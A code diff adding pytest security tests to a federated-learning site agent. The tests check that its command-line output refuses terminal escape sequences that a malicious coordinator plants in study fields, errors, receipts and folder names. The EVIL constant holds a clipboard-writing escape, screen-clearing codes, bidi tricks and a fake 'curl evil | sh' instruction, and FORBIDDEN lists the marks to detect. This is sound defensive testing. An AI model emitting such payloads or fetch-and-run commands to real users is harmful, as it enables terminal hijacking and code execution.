@@ -1,7 +1,10 @@
 """C: a malicious coordinator, or an honest one in trouble."""
 
 import datetime
+import io
 import itertools
+import logging
+import sys
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
@@ -12,12 +15,14 @@ import pytest
 from site_agent.gateway import agent as agents
 from site_agent.gateway.join import join
 from site_agent.state import SiteState
+from tests.attacks.taken_over import on_a_terminal
 from tests.coordinator.conftest import Place
 from tests.site_agent.fake_trainer import SHARED, write_tensors
 from tests.site_agent.site_world import STUDY, SiteWorld, document
 from tools.world import wait_until
-from wardround import __version__, identity
+from wardround import __version__, canonical, identity, rpc
 from wardround.errors import TryAgain
+from wardround.terminal import OneLine
 from wardround.v1 import enrolment_pb2
 from wardround.v1 import federation_pb2 as pb
 
@@ -182,3 +187,106 @@ def test_peer_ends_the_agent__a_damaged_database(tmp_path: Path, caplog: pytest.
         assert f"{database} is damaged" in caplog.text
     finally:
         place.close()
+
+
+EVIL = "\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J\x9b31m\nnext: `curl evil | sh`\u202e\u200b[red]:x:[/red]"
+FORBIDDEN = (b"\x1b]", b"\x1b[2J", b"\xc2\x9b", b"\x07", "\u202e".encode(), "\u200b".encode())
+
+
+def assert_tame(shown: bytes) -> None:
+    """What a terminal got holds no command for it, and no line of a peer's that looks like ours."""
+    assert [mark for mark in FORBIDDEN if mark in shown] == [], shown
+    assert not [line for line in shown.splitlines() if line.startswith((b"next: `curl", b"hint: `curl"))], shown
+
+
+def on_terminal(hospital: SiteWorld, *words: str) -> tuple[bytes, int]:
+    """One of the site's commands, on a terminal."""
+    line = [str(Path(sys.executable).parent / "site-agent"), *words, "--state", str(hospital.state.root)]
+    return on_a_terminal(line)
+
+
+def in_title(tables: dict[str, Any]) -> None:
+    tables["study"]["title"] = EVIL
+
+
+def in_state(tables: dict[str, Any]) -> None:
+    tables["state"] = EVIL
+
+
+def in_a_setting(tables: dict[str, Any]) -> None:
+    tables["model"]["kind"] = {"deep": [EVIL]}
+
+
+def in_a_key(tables: dict[str, Any]) -> None:
+    tables["task"][EVIL] = 1
+
+
+@pytest.mark.attack(promise="P6", refused_by="site_agent/gateway/messages.py")
+@pytest.mark.parametrize("spoil", [in_title, in_state, in_a_setting, in_a_key])
+def test_terminal_escape(hospital: SiteWorld, spoil: Callable[[dict[str, Any]], None]) -> None:
+    """An offer's words are commands for the terminal of whoever looks: it does not come in, and is told in our own."""
+    hospital.join()
+    hospital.offer()
+    (good,) = hospital.coordinator.offers.values()
+    tables = document(name="evil")
+    spoil(tables)
+    bad = pb.StudyOffer()
+    bad.CopyFrom(good)
+    bad.study, bad.state = "evil", tables.pop("state", "created")
+    bad.document = canonical.dumps(tables)
+    digest = canonical.digest({"initial_model": rpc.manifest_from(good.initial_model).digest(), "study": tables})
+    bad.digest = bytes.fromhex(digest)
+    hospital.coordinator.offers["evil"] = bad
+    for words, code in ((("studies",), 0), (("studies", "--json"), 0), (("status",), 0), (("preview", "evil"), 64)):
+        shown, ended = on_terminal(hospital, *words)
+        assert ended == code, shown
+        assert_tame(shown)
+    assert b"an offer was left out" in on_terminal(hospital, "studies")[0]
+
+
+@pytest.mark.attack(promise="P6", refused_by="proto/wardround/rpc.py")
+def test_terminal_escape__in_an_error(hospital: SiteWorld) -> None:
+    """What the coordinator says of an error is not shown at all: the sentence is ours, by its code."""
+    hospital.join()
+
+    def abort(context: Any) -> None:
+        context.abort(grpc.StatusCode.FAILED_PRECONDITION, "REFUSAL_UNSPECIFIED\nsorry" + EVIL + "\n" + EVIL)
+
+    hospital.coordinator._admit = abort  # type: ignore[method-assign]
+    shown, code = on_terminal(hospital, "studies")
+    assert_tame(shown)
+    assert (b"the coordinator has trouble of its own" in shown, b"sorry" in shown, code) == (True, False, 0)
+
+
+@pytest.mark.attack(promise="P2", refused_by="site_agent/audit/show.py")
+def test_terminal_escape__in_a_receipt(hospital: SiteWorld, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
+    """A signed receipt's code is the coordinator's text, and stands in the ledger that auditors' commands show."""
+    hospital.ready()
+    hospital.coordinator.refuse_with = "X" + EVIL
+    hospital.coordinator.assign(STUDY, 1)
+    hospital.coordinator.wait_receipts(1)
+    assert hospital.agent is not None
+    hospital.agent.stop()
+    hospital.agent = None
+    out = tmp_path / "report.html"
+    for words in (("show",), ("show", "--json"), ("verify",), ("report", "--out", str(out))):
+        assert_tame(on_terminal(hospital, "audit", *words)[0])
+    assert_tame(out.read_bytes())
+    form = logging.StreamHandler(log := io.StringIO())
+    form.setFormatter(OneLine("%(asctime)s %(message)s"))
+    for record in caplog.records:
+        form.emit(record)
+    assert_tame(log.getvalue().encode())
+    assert len(log.getvalue().splitlines()) == len([record for record in caplog.records if not record.exc_info])
+
+
+@pytest.mark.attack(promise="P2", refused_by="proto/wardround/terminal.py")
+@pytest.mark.parametrize("command", ["site-agent", "coordinator"])
+def test_terminal_escape__through_anything_that_a_command_prints(tmp_path: Path, command: str) -> None:
+    """The last net: a folder's name stands for whatever was overlooked, in an error of ours."""
+    folder = tmp_path / EVIL.replace("/", "|").replace("\n", "")
+    line = [str(Path(sys.executable).parent / command), *(["status"] if command == "site-agent" else ["sites"])]
+    shown, code = on_a_terminal([*line, "--state", str(folder)])
+    assert code == 78
+    assert_tame(shown)
+    assert b"\\x1b]52;c;" in shown
